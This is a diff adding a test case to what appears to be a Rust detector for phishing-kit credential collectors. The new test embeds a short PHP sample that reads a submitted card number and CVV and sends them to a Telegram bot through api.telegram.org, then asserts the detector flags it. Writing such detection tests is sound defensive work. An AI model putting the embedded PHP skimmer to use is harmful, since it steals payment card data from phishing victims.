@@ -60,6 +60,11 @@ fn credentials_passed_through_variables_and_sent_away_are_collected() {
         "$a = 1; ".repeat(150)
     );
     assert_eq!(found(&logged), [Why::CredentialCollector]);
+    // fresh115's Correos kit reads the card with `filter_input` and posts it to a chat bot.
+    let filtered = "<?php $card = filter_input(INPUT_POST, 'card', FILTER_SANITIZE_STRING); $cvv = filter_input(INPUT_POST, 'code');\n\
+                    $m = 'Card Number : ' . $card . \"\\n\"; $m .= 'CVV : ' . $cvv;\n\
+                    file_get_contents('https://api.telegram.org/bot' . $t . '/sendMessage?chat_id=' . $c . '&text=' . urlencode($m));";
+    assert_eq!(found(filtered), [Why::CredentialCollector]);
 }
 
 #[test]
